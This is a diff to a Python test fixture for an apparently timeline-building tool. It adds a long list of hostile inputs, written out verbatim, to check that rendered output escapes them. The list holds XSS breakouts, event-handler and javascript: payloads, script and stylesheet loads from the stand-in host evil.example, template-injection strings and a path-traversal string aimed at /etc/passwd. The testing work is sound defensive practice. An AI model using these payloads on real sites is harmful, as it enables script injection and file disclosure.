@@ -578,41 +578,72 @@ HOSTILE = (
     "<template><style>*{display:none}</style></template>",
     "😀 astral 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 before the date",
     "<span style='position:fixed;inset:0'>cover</span>",
+    "</title><script>window.hacked=1</script>",
+    "</style><script>window.hacked=1</script>",
+    "</textarea></select></template></noscript><script>window.hacked=1</script>",
+    "--><script>window.hacked=1</script>",
+    "<!-- <script> -- ><script>window.hacked=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<iframe src=javascript:parent.hacked=1>",
+    "<object data=javascript:window.hacked=1></object>",
+    "<embed src='data:image/svg+xml,<svg onload=window.hacked=1>'>",
+    "<svg><script>window.hacked=1</script></svg>",
+    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input autofocus onfocus=window.hacked=1>",
+    "<body onload=window.hacked=1>",
+    "<details open ontoggle=window.hacked=1>x</details>",
+    "<video><source onerror=window.hacked=1></video>",
+    "<marquee onstart=window.hacked=1>m</marquee>",
+    "javascript:window.hacked=1//",
+    "data:text/html,<script>window.hacked=1</script>",
+    "' onclick='window.hacked=1' x='",
+    "` onclick=`window.hacked=1` x=`",
+    "{{constructor.constructor('window.hacked=1')()}}",
+    "${window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %>",
+    "__proto__ constructor toString hasOwnProperty",
+    "\ufeffbyte order mark \u200bzero width\u200d joiner \u00adsoft hyphen",
+    "\u202a\u202b\u202d\u2066\u2067\u2068 never closed",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0349\u0347\u031elgo",
+    "../../../etc/passwd%00.html?x=1&y=2#z",
+    "&#60;script&#62;window.hacked=1&#60;/script&#62; &lt;b&gt;",
+    "\\u003cscript\\u003ewindow.hacked=1\\x3c/script\\x3e",
 )
 
 
 def hostile() -> Timeline:
-    """Text that would like to be markup, in every place where a document's words are shown."""
-    raw, rows = "", []
+    """Text that would like to be markup, in every place where a document's words are shown, file names among them."""
+    documents, events = [], []
     for number, text in enumerate(HOSTILE):
-        start = len(raw)
-        raw += f"{text}, on {number + 1} May 2001."
-        date = (len(raw) - len(f"{number + 1} May 2001."), len(raw) - 1)
-        rows.append((text, (start, len(raw)), date, f"2001-05-{number + 1:02}"))
-        raw += "\n"
-    doc = replace(
-        document("<img src=x onerror=window.hacked=1>.txt", raw, HOSTILE[0]),
-        metadata={"url": "javascript:window.hacked=1", "author": HOSTILE[1]},
-        published=Published(parse("2001-06-01"), "given", HOSTILE[1]),
-    )
-    events = [
-        event(
-            text,
-            "other",
-            parse(edtf),
-            [Told(doc, sentence, date, edtf, anchor=text, rule=text, names=((text, "person"),))],
-            merges=[(0, 0, ((text, 1.0, text),))],
-            conflicts=(("who", "differs", ((text, (0,)), ("no", (0,)))),),
+        edtf = f"2001-{number // 28 + 5:02}-{number % 28 + 1:02}"
+        sentence = f"{text}, on {parse(edtf).in_words()}."
+        doc = replace(
+            document(f"{text}.txt", f"{sentence}\n", text),
+            metadata={"url": "javascript:window.hacked=1", "author": text},
+            published=Published(parse("2001-09-01"), "given", text),
         )
-        for text, sentence, date, edtf in rows
-    ]
+        names: tuple[tuple[str, NameKind], ...] = ((text, "person"), (text, "organisation"), (text, "place"))
+        start = len(text) + len(", on ")
+        told = Told(doc, (0, len(sentence)), (start, len(sentence) - 1), edtf, anchor=text, rule=text, names=names)
+        conflict = (("who", "differs", ((text, (0,)), ("no", (0,)))),)
+        events.append(
+            event(text, "other", parse(edtf), [told], merges=[(0, 0, ((text, 1.0, text),))], conflicts=conflict)
+        )
+        documents.append(doc)
     return timeline(
         HOSTILE[0],
-        [doc],
+        documents,
         events,
-        rejected=[Rejected(doc.raw_quote(Span(0, 10)), HOSTILE[1])],
+        rejected=[Rejected(doc.raw_quote(Span(0, 10)), doc.name) for doc in documents],
         problems=[Problem(text, "acquire", text, text) for text in HOSTILE],
-        notes=[Note(doc.id, HOSTILE[0])],
+        notes=[Note(doc.id, doc.name) for doc in documents],
     )
 
 
